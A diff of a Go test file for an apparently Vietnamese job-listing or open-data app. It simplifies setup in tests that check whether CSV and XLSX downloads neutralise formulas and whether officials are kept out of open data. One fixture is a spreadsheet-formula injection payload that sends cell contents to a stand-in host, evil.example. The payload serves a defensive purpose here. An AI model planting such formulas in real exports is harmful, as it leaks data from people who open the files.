@@ -137,8 +137,7 @@ func flatten(rows [][]string) []string {
 // text in the CSV and the XLSX.
 func TestDownloadsNeutraliseFormulas(t *testing.T) {
 	t.Parallel()
-	st := testenv.Store(t)
-	app := newApp(t, st)
+	st, app := emptyApp(t)
 	co := testenv.NewCompany(t, st, 1, "hcm", domain.StatusPublished)
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Nộp hồ sơ")`
 	j := testenv.NewJob(t, st, co, testenv.JobSpec{Title: evil})
@@ -255,8 +254,7 @@ func TestDownloadsRevalidate(t *testing.T) {
 // download and no API answer, by name or email.
 func TestOpenDataNamesNoOfficial(t *testing.T) {
 	t.Parallel()
-	st := testenv.Store(t)
-	app := newApp(t, st)
+	st, app := emptyApp(t)
 	dept := "hcm-sonv"
 	official := store.User{Email: "can.bo.bidanh@sonv.example.vn", Name: "Trần Thị Bí Danh", Role: "editor", City: testenv.Ptr("hcm"), DepartmentCode: &dept, PasswordHash: "x"}
 	must(t, st.CreateUser(ctx, &official))
